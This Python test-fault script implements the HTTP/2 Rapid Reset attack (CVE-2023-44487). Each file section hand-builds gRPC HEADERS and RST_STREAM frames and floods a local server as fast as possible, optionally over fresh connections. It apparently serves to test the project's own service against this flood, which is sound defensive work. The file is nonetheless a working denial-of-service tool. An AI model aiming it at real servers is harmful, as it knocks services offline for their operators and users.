"""Opens gRPC calls on one connection and resets each at once, as fast as it can: CVE-2023-44487.

`python -m tests.faults.rapid_reset PORT` goes on until SIGTERM: it prints a line after the first BEGUN calls,
and in the end how many they were. When it is cut off it comes again. With a second argument it makes a new
connection after so many calls, from 127.0.0.2, whether or not the first ones were taken.
"""

from __future__ import annotations

import contextlib
import signal
import socket
import sys
import threading

from hyperframe.frame import Frame, PingFrame, SettingsFrame

PATH = "/llm_cost_ops.v1.UsageService/SubmitUsage"
TOGETHER = 50
BEGUN = 1000


def main() -> None:
    port, ended, calls = int(sys.argv[1]), threading.Event(), 0
    signal.signal(signal.SIGTERM, lambda *_: ended.set())
    if len(sys.argv) > 2:
        print(by_connections(port, ended, int(sys.argv[2])))  # noqa: T201  # for who started it
        return
    while not ended.is_set():
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 5) as connection:
            connection.sendall(PREFACE + SettingsFrame(0).serialize())
            threading.Thread(target=acknowledge, args=(connection,), daemon=True).start()
            for first in range(1, 1 << 30, 2 * TOGETHER):
                connection.sendall(b"".join(opened_and_reset(first + 2 * n) for n in range(TOGETHER)))
                calls += TOGETHER
                if calls == BEGUN:
                    print("begun", flush=True)  # noqa: T201  # as below
                if ended.is_set():
                    break
    print(calls)  # noqa: T201  # for who started it


def by_connections(port: int, ended: threading.Event, each: int) -> int:
    """New connections until it is ended, with so many calls on each."""
    flood = b"".join(opened_and_reset(1 + 2 * call) for call in range(each))
    calls = 0
    while not ended.is_set():
        with contextlib.suppress(OSError), socket.socket() as connection:
            connection.bind(("127.0.0.2", 0))
            connection.settimeout(2)
            connection.connect(("127.0.0.1", port))
            connection.sendall(PREFACE + SettingsFrame(0).serialize() + flood)
            calls += each
    return calls


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def opened_and_reset(stream: int) -> bytes:
    number = stream.to_bytes(4, "big")
    return _OPEN + number + HEAD + _RESET + number + _CANCEL


def literal(text: str) -> bytes:
    return bytes([len(text)]) + text.encode()


# POST, http, and literals that no table keeps (RFC 7541).
HEAD = b"\x83\x86\x04" + literal(PATH) + b"\x01" + literal("x")
for name, value in (("content-type", "application/grpc"), ("te", "trailers")):
    HEAD += b"\0" + literal(name) + literal(value)
# Frames by hand: it is to be fast.
_OPEN = len(HEAD).to_bytes(3, "big") + b"\x01\x04"
_RESET = b"\0\0\4\3\0"
_CANCEL = b"\0\0\0\x08"


def acknowledge(connection: socket.socket) -> None:
    """Read all, and take pings and settings back, as a client must."""
    data = b""
    with contextlib.suppress(OSError):
        while more := connection.recv(1 << 20):
            data += more
            while len(data) >= 9:
                frame, length = Frame.parse_frame_header(memoryview(data)[:9])
                if len(data) < 9 + length:
                    break
                frame.parse_body(memoryview(data)[9 : 9 + length])
                data = data[9 + length :]
                if isinstance(frame, PingFrame) and "ACK" not in frame.flags:
                    connection.sendall(PingFrame(0, frame.opaque_data, flags=["ACK"]).serialize())
                elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                    connection.sendall(SettingsFrame(0, flags=["ACK"]).serialize())


if __name__ == "__main__":
    main()
